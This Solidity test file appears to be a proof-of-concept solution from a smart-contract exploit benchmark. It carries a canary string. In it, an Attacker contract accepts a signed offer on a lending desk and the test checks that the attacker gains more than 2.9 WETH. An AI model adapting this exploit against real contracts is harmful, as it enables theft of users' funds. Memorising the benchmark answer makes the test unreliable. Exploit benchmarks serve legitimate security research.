// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker {
    function run(LoanDesk desk, Chalk chalk, Offer calldata o, bytes calldata signature) external {
        chalk.setApprovalForAll(address(desk.vault()), true);
        desk.accept(o, signature, 9, new bytes32[](0));
    }
}

contract Proof is Base {
    Attacker private other;
    bytes private signature;

    function _start() internal override {
        other = new Attacker();
        chalk.mint(address(other), 9);
        signature = _signed(chalkOffer(), CEE_KEY);
    }

    function exploit() public {
        other.run(desk, chalk, chalkOffer(), signature);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) > 2.9e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(book);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
